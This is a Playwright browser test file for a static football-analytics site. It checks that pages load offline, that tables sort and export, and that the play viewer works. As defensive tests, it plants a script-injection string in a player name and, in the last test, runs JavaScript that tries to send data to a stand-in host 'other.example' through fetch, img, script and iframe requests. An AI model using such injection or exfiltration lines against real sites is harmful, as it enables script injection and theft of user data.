"""The site opened from disk in a real browser that may not fetch anything else."""

import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from made_site import ARRIVAL, made_site

from ghost_pipeline.publish.site import render_site

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium found on the path: install it to run the browser tests"),
]
PAGES = (
    "index.html",
    "leaderboard.html",
    "plays.html",
    "model.html",
    "features.html",
    "quality.html",
    "dictionary.html",
    "glossary.html",
    "weeks.html",
    "week/2021-REG-02.html",
    "season/2021.html",
)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("site")
    for path, content in render_site(made_site(first_name='<script>alert("x")</script>')):
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
    return folder


class Visit:
    """A browser page that refuses and remembers every request but those for files, and every complaint."""

    def __init__(self, page) -> None:
        self.page, self.outside, self.complaints = page, [], []
        page.route("**/*", self._decide)
        page.on("console", lambda message: message.type == "error" and self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda dialog: (self.complaints.append(f"dialog: {dialog.message}"), dialog.dismiss()))

    def _decide(self, route) -> None:
        if route.request.url.startswith(("file:", "blob:", "data:")):
            route.continue_()
        else:
            self.outside.append(route.request.url)
            route.abort()

    def open(self, file: Path, anchor: str = "") -> None:
        self.page.goto(f"{file.as_uri()}{anchor}")
        content = file.read_text()
        if "datatables.js" in content:
            self.page.wait_for_selector("html[data-tables=ready]", state="attached")
        if "play_viewer.js" in content:
            self.page.wait_for_selector("html[data-viewer=ready]", state="attached")

    def check(self) -> None:
        assert self.outside == []
        assert self.complaints == []


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    with playwright.sync_playwright() as driver:
        opened = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield opened
        opened.close()


@pytest.fixture
def visit(browser) -> Iterator[Visit]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    yield Visit(context.new_page())
    context.close()


def _play(site: Path) -> Path:
    return min((site / "play").rglob("*.html"))


@pytest.mark.parametrize("name", PAGES)
def test_a_page_opens_with_no_outside_request_and_no_complaint(site: Path, visit: Visit, name: str) -> None:
    visit.open(site / name)
    visit.check()
    assert visit.page.locator("main h1").count() == 1
    if name == "model.html":
        assert visit.page.locator(".chart .main-svg").count() >= 6
    visit.page.set_viewport_size({"width": 390, "height": 844})
    visit.open(site / name)
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= 390, "the page is wider than a phone"


def test_the_leaderboard_sorts_searches_filters_and_saves(site: Path, visit: Visit, tmp_path: Path) -> None:
    visit.open(site / "leaderboard.html")
    rows = visit.page.locator("#defensive-backs tbody tr")
    playwright.expect(rows).to_have_count(25)
    visit.page.locator(".filters select").first.select_option("OAK")
    other_teams = visit.page.locator("#defensive-backs tbody td:nth-child(3)").get_by_text(re.compile("^(?!OAK$)"))
    playwright.expect(other_teams).to_have_count(0)
    visit.page.locator("#defensive-backs_wrapper input[type=search]").fill("script")
    playwright.expect(rows).to_have_count(1)
    with visit.page.expect_download() as download:
        visit.page.get_by_role("button", name="Save as CSV").first.click()
    download.value.save_as(tmp_path / "board.csv")
    saved = (tmp_path / "board.csv").read_text(encoding="utf-8-sig")
    assert "<script>" in saved
    assert '"60","20","-0.' in saved, "numbers are saved as numbers"
    assert "−" not in saved, "with the plain minus that other programs read"
    visit.check()


def test_the_leaderboard_starts_with_whole_seasons_and_shows_playoffs_alone(site: Path, visit: Visit) -> None:
    visit.open(site / "leaderboard.html")
    chooser = visit.page.locator(".table-box:has(#defensive-backs) select[data-name=season_type]")
    playwright.expect(chooser).to_have_value("ALL")
    assert chooser.locator("option").all_text_contents() == ["ALL", "POST"]
    info = visit.page.locator("#defensive-backs_info")
    playwright.expect(info).to_contain_text("of 40 entries")
    chooser.select_option("POST")
    playwright.expect(visit.page.locator("#defensive-backs tbody tr")).to_have_count(2)
    visit.check()


def test_a_name_leads_to_the_plays_of_the_player(site: Path, visit: Visit) -> None:
    visit.open(site / "leaderboard.html")
    visit.page.locator("#defensive-backs tbody a").first.click()
    visit.page.wait_for_url("**/plays.html#player=*")
    visit.page.wait_for_selector("html[data-tables=ready]", state="attached")
    playwright.expect(visit.page.locator("[data-player-note]")).to_be_visible()
    rows = visit.page.locator("#plays tbody tr")
    assert 0 < rows.count() < 6
    visit.page.get_by_text("Show all plays").click()
    playwright.expect(rows).to_have_count(6)
    visit.page.locator("#plays tbody a").first.click()
    visit.page.wait_for_selector("html[data-viewer=ready]", state="attached")
    visit.check()


def test_the_viewer_chooses_targets_steps_and_warns(site: Path, visit: Visit) -> None:
    visit.open(_play(site))
    page, banner = visit.page, visit.page.locator("[data-banner]")
    assert "What really happened" in banner.inner_text()
    ghosts = page.evaluate("document.querySelector('[data-field]').data.find((l) => l.meta === 'ghosts').x.length")
    assert ghosts == 11
    other = page.locator("[data-target]:not(.actual)").first
    other.click()
    playwright.expect(banner).to_contain_text("no truth exists for this target")
    playwright.expect(other).to_have_attribute("aria-pressed", "true")
    page.wait_for_url(f"**target={other.get_attribute('data-target')}*")

    page.locator("[data-moment=throw]").click()
    playwright.expect(page.locator("[data-clock]")).to_contain_text("2.7 s")
    page.keyboard.press("ArrowRight")
    playwright.expect(page.locator("[data-clock]")).to_contain_text("2.8 s")
    page.wait_for_url("**t=2.8*")
    visit.check()


def test_a_deep_link_opens_target_and_moment(site: Path, visit: Visit) -> None:
    visit.open(_play(site))
    target = visit.page.locator("[data-target]:not(.actual)").last.get_attribute("data-target")
    visit.page.goto("about:blank")
    visit.open(_play(site), f"#target={target}&t=3.1")
    playwright.expect(visit.page.locator(f"[data-target='{target}']")).to_have_attribute("aria-pressed", "true")
    playwright.expect(visit.page.locator("[data-clock]")).to_contain_text("3.1 s")


def test_playing_runs_to_the_end(site: Path, visit: Visit) -> None:
    visit.open(_play(site))
    page = visit.page
    page.locator("[data-moment=throw]").click()
    page.locator("[data-play]").click()
    playwright.expect(page.locator("[data-play]")).to_contain_text("Pause")
    playwright.expect(page.locator("[data-play]")).to_contain_text("Play", timeout=15_000)
    assert float(page.locator("[data-scrub]").input_value()) >= ARRIVAL
    visit.check()


def test_the_quality_page_is_searched_filtered_and_opened_at_a_check(site: Path, visit: Visit) -> None:
    visit.open(site / "quality.html", "#week=2021-REG-02&check=speed_limit")
    page, rows = visit.page, visit.page.locator("#checks tbody tr")
    playwright.expect(rows).to_have_count(1)
    playwright.expect(rows).to_contain_text("3 plays over 12.5 yd/s")
    playwright.expect(page.locator("[data-chosen]")).to_contain_text("Showing 2021-REG-02, speed_limit")
    assert page.locator("#checks .spark use").evaluate("bars => bars.getBBox().height") > 0, "the history is drawn"
    page.locator("[data-chosen] a").click()
    playwright.expect(rows).to_have_count(4)
    playwright.expect(page.locator("[data-chosen]")).to_be_hidden()

    page.locator("#overview tbody td a").nth(1).click()
    playwright.expect(rows).to_have_count(1)
    page.locator("#quarantine_wrapper input[type=search]").fill("one_ball")
    playwright.expect(page.locator("#quarantine tbody tr")).to_have_count(2)
    page.locator(".filters select[data-name=offense_team]").select_option("ELM")
    playwright.expect(page.locator("#quarantine tbody tr")).to_have_count(2)
    visit.check()


def test_a_page_cannot_send_anything_to_another_host(visit: Visit, site: Path) -> None:
    visit.open(site / "index.html")
    refused = visit.page.evaluate(
        """async () => {
            const refused = [];
            addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
            await fetch("http://other.example/?stolen").catch(() => 0);
            for (const name of ["img", "script", "iframe"])
                document.body.append(Object.assign(document.createElement(name), {src: "http://other.example/"}));
            await new Promise((go) => setTimeout(go, 300));
            return refused.sort();
        }"""
    )
    assert refused == ["connect-src", "frame-src", "img-src", "script-src-elem"]
    assert visit.outside == []
